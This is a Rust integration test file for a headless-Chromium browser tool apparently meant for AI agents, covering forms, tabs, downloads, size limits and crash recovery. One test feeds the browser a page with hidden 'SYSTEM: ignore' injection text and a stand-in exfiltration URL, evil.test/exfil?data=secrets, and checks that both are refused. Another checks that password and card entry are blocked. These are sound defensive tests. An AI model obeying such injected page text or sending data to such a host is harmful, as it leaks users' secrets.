//! Real headless Chromium against pages served on loopback, through a real
//! egress proxy. Each test skips, saying why, when Chromium is missing.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::time::Duration;

use cubicle_browser::SnapshotLimits;
use support::*;

const NAV: Duration = Duration::from_secs(20);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn navigate_and_snapshot_a_form() {
    if !chromium_or_skip("navigate_and_snapshot_a_form") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, NAV);
    let info = b.navigate(&site.url("shop.test", "/form")).await.unwrap();
    assert_eq!(info.title, "Form");
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap();
    assert!(
        snap.text.contains("- heading \"Order\" [level=1]"),
        "{}",
        snap.text
    );
    b.shutdown().await;
}

/// The ref on the line of the snapshot that contains `needle`.
fn ref_of(snapshot: &str, needle: &str) -> String {
    let line = snapshot
        .lines()
        .find(|l| l.contains(needle) && l.contains("[ref="))
        .unwrap_or_else(|| panic!("no element line with {needle:?} in:\n{snapshot}"));
    let start = line.find("[ref=").unwrap() + 5;
    line[start..start + line[start..].find(']').unwrap()].to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fill_and_submit_a_form() {
    if !chromium_or_skip("fill_and_submit_a_form") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, NAV);
    b.navigate(&site.url("shop.test", "/form")).await.unwrap();
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    // Labels name their controls and are not repeated as text.
    assert!(snap.contains("- combobox \"Country\""), "{snap}");
    b.type_text(
        &ref_of(&snap, "textbox \"Name\""),
        "Ada Lovelace",
        true,
        false,
    )
    .await
    .unwrap();
    let chosen = b
        .select(
            &ref_of(&snap, "combobox \"Country\""),
            &["Germany".to_owned()],
        )
        .await
        .unwrap();
    assert_eq!(chosen, vec!["Germany".to_owned()]);
    b.click(&ref_of(&snap, "checkbox \"Gift wrap\""))
        .await
        .unwrap();
    let after = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    assert!(
        after.contains("textbox \"Name\" [ref=e1] = \"Ada Lovelace\""),
        "{after}"
    );
    assert!(
        after.contains("checkbox \"Gift wrap\" [ref=e3] [checked]"),
        "{after}"
    );
    let info = b
        .click(&ref_of(&snap, "button \"Send order\""))
        .await
        .unwrap();
    assert_eq!(info.title, "Thanks".replace("Thanks", "Submitted"));
    let done = b.text(None, 1, 10_000).await.unwrap();
    assert!(
        done.text
            .contains("Query: name=Ada+Lovelace&country=de&gift=on"),
        "{}",
        done.text
    );
    // Back returns to the form; its old refs are gone with the old document.
    let back = b.back().await.unwrap();
    assert_eq!(back.title, "Form");
    let err = b.click("e5").await.unwrap_err().to_string();
    assert!(err.contains("there is no element e5"), "{err}");
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn single_page_app_keeps_refs_and_reports_stale_ones() {
    if !chromium_or_skip("single_page_app_keeps_refs_and_reports_stale_ones") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, NAV);
    b.navigate(&site.url("shop.test", "/spa")).await.unwrap();
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    assert!(!snap.contains("hidden secret text"), "{snap}");
    let add = ref_of(&snap, "Add item");
    b.click(&add).await.unwrap();
    b.click(&add).await.unwrap();
    let snap2 = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    assert!(snap2.contains("• item 3"), "{snap2}");
    assert_eq!(
        ref_of(&snap2, "Add item"),
        add,
        "refs are stable across snapshots"
    );
    let gone = ref_of(&snap2, "Remove me");
    b.click(&gone).await.unwrap();
    let err = b.click(&gone).await.unwrap_err().to_string();
    assert!(err.contains("no longer on the page"), "{err}");
    b.click(&ref_of(&snap2, "Load later")).await.unwrap();
    b.wait_for_text("Loaded late", false, Duration::from_secs(10))
        .await
        .unwrap();
    let err = b
        .wait_for_text("never there", false, Duration::from_millis(300))
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("did not appear"), "{err}");
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn iframes_same_origin_inline_and_cross_origin_named() {
    if !chromium_or_skip("iframes_same_origin_inline_and_cross_origin_named") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, NAV);
    b.navigate(&site.url("shop.test", "/frames")).await.unwrap();
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    assert!(snap.contains("- iframe \"Inner\" (/inner):"), "{snap}");
    assert!(snap.contains("inside the frame"), "{snap}");
    assert!(snap.contains("- iframe \"Other\" (another site:"), "{snap}");
    b.click(&ref_of(&snap, "Frame button")).await.unwrap();
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    assert!(snap.contains("frame button clicked"), "{snap}");
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn long_and_huge_pages_are_bounded() {
    if !chromium_or_skip("long_and_huge_pages_are_bounded") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, Duration::from_secs(60));
    b.navigate(&site.url("shop.test", "/long")).await.unwrap();
    let limits = SnapshotLimits::default();
    let first = b.snapshot(1, limits).await.unwrap();
    assert!(first.pages > 5, "{} pages", first.pages);
    assert!(first.text.chars().count() <= limits.page_chars);
    assert!(first.text.contains("Paragraph number 0 "));
    let last = b.snapshot(first.pages, limits).await.unwrap();
    assert!(last.text.contains("Paragraph number 2999"), "{}", last.text);
    assert!(last.text.contains("- link \"The end\""), "{}", last.text);
    // A page past the end gives the last one.
    assert_eq!(b.snapshot(9999, limits).await.unwrap().page, first.pages);

    // About 50 MB of DOM: the digest stops at its bounds and says so.
    b.navigate(&site.url("shop.test", "/big")).await.unwrap();
    let big = b.snapshot(1, limits).await.unwrap();
    assert!(big.truncated.is_some(), "{:?}", big.truncated);
    assert!(big.text.chars().count() <= limits.page_chars);
    assert!(big.chars <= (limits.max_chars + 10_000) as u64);
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn downloads_land_in_the_download_folder() {
    if !chromium_or_skip("downloads_land_in_the_download_folder") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, NAV);
    b.navigate(&site.url("shop.test", "/download"))
        .await
        .unwrap();
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    b.click(&ref_of(&snap, "Get the report")).await.unwrap();
    let mut got = Vec::new();
    for _ in 0..50 {
        let (done, _) = b.take_downloads(Duration::from_secs(5)).await.unwrap();
        got.extend(done);
        if !got.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].suggested_name, "report.csv");
    assert_eq!(std::fs::read_to_string(&got[0].path).unwrap(), "a,b\n1,2\n");
    // Handed out once.
    assert!(b.take_downloads(Duration::ZERO).await.unwrap().0.is_empty());
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn page_text_cannot_reach_outside_the_policy() {
    if !chromium_or_skip("page_text_cannot_reach_outside_the_policy") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, mut events) = proxy().await;
    let b = browser(addr, NAV);
    b.navigate(&site.url("shop.test", "/inject")).await.unwrap();
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    assert!(snap.contains("Total due: $1,234.00"), "{snap}");
    assert!(
        !snap.contains("SYSTEM: ignore"),
        "display:none text is not shown: {snap}"
    );
    // A model that obeyed the page would try this: refused before any request.
    let err = b
        .navigate(&site.url("evil.test", "/exfil?data=secrets"))
        .await
        .unwrap_err();
    assert!(
        matches!(err, cubicle_browser::BrowserError::Refused(_)),
        "{err}"
    );
    let err = b.new_tab(Some("http://evil.test/")).await.unwrap_err();
    assert!(err.to_string().contains("not allowed"), "{err}");
    // The page's own beacon, image and fetch went to the proxy, which refused them.
    b.navigate(&site.url("shop.test", "/")).await.unwrap();
    let mut denied = Vec::new();
    while let Ok(ev) = events.try_recv() {
        if ev.host == "evil.test" {
            assert!(!ev.allowed, "{ev:?}");
            denied.push(ev);
        }
    }
    assert!(
        !denied.is_empty(),
        "the page's requests to evil.test reached the proxy and were denied"
    );
    let reached: Vec<_> = site
        .seen()
        .into_iter()
        .filter(|s| s.host != "shop.test")
        .collect();
    assert!(
        reached.is_empty(),
        "requests outside policy reached a server: {reached:?}"
    );
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_and_payment_pages_pause_and_are_never_filled() {
    if !chromium_or_skip("login_and_payment_pages_pause_and_are_never_filled") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, NAV);
    let info = b.navigate(&site.url("shop.test", "/login")).await.unwrap();
    assert_eq!(info.gates, vec![cubicle_browser::Gate::Login]);
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    let err = b
        .type_text(
            &ref_of(&snap, "textbox \"Password\""),
            "hunter2",
            true,
            false,
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("never types passwords"), "{err}");
    let info = b.navigate(&site.url("shop.test", "/pay")).await.unwrap();
    assert_eq!(info.gates, vec![cubicle_browser::Gate::Payment]);
    let snap = b.snapshot(1, SnapshotLimits::default()).await.unwrap().text;
    let err = b
        .type_text(
            &ref_of(&snap, "Card number"),
            "4242424242424242",
            true,
            false,
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("card or payment details"), "{err}");
    let err = b
        .click(&ref_of(&snap, "Pay $20.00"))
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("never buys or pays"), "{err}");
    assert!(!site.seen().iter().any(|s| s.path.starts_with("/paid")));
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn faults_timeout_crash_and_missing_browser() {
    if !chromium_or_skip("faults_timeout_crash_and_missing_browser") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, Duration::from_secs(2));
    let err = b
        .navigate(&site.url("shop.test", "/hang"))
        .await
        .unwrap_err();
    assert!(
        matches!(err, cubicle_browser::BrowserError::NavigationTimeout { .. }),
        "{err}"
    );
    assert!(
        err.to_string()
            .contains("did not finish loading within 2 s")
    );
    // Still usable afterwards.
    b.navigate(&site.url("shop.test", "/")).await.unwrap();

    // Kill the browser under it: the next call says so, the one after works.
    let pid = b.pid().await.unwrap();
    // SAFETY: kill on a pid this test's browser owns.
    unsafe { libc_kill(pid) };
    tokio::time::sleep(Duration::from_millis(500)).await;
    let err = b.snapshot(1, SnapshotLimits::default()).await.unwrap_err();
    assert!(err.browser_lost(), "{err}");
    assert!(err.to_string().contains("restarted"), "{err}");
    let info = b.navigate(&site.url("shop.test", "/")).await.unwrap();
    assert_eq!(info.title, "Home");
    assert_ne!(b.pid().await.unwrap(), pid);
    b.shutdown().await;

    let missing = cubicle_browser::Browser::new(
        cubicle_browser::LaunchOptions {
            executable: Some("/nonexistent/chromium".into()),
            ..Default::default()
        },
        std::sync::Arc::new(ShopOnly),
    );
    let err = missing.start().await.unwrap_err().to_string();
    assert!(err.contains("`chromium` package"), "{err}");
}

unsafe fn libc_kill(pid: u32) {
    let _ = std::process::Command::new("kill")
        .args(["-9", &pid.to_string()])
        .status();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tabs_screenshot_and_logs() {
    if !chromium_or_skip("tabs_screenshot_and_logs") {
        return;
    }
    let site = site().await;
    let (_proxy, addr, _events) = proxy().await;
    let b = browser(addr, NAV);
    b.navigate(&site.url("shop.test", "/")).await.unwrap();
    let tabs = b
        .new_tab(Some(&site.url("shop.test", "/form")))
        .await
        .unwrap();
    assert_eq!(tabs.len(), 2);
    assert!(tabs[1].current && tabs[1].title == "Form", "{tabs:?}");
    let tabs = b.switch_tab(&tabs[0].id).await.unwrap();
    assert!(tabs[0].current, "{tabs:?}");
    assert_eq!(
        b.snapshot(1, SnapshotLimits::default())
            .await
            .unwrap()
            .title,
        "Home"
    );
    let tabs = b.close_tab(&tabs[1].id).await.unwrap();
    assert_eq!(tabs.len(), 1);
    let err = b.switch_tab("t99").await.unwrap_err().to_string();
    assert!(err.contains("there is no tab \"t99\""), "{err}");
    let png = b.screenshot(false).await.unwrap();
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
    let net = b
        .logs(Some(cubicle_browser::LogKind::Network), false)
        .await
        .unwrap();
    assert!(
        net.iter()
            .any(|e| e.text.contains("shop.test") && e.text.ends_with("→ 200")),
        "{net:?}"
    );
    b.shutdown().await;
}
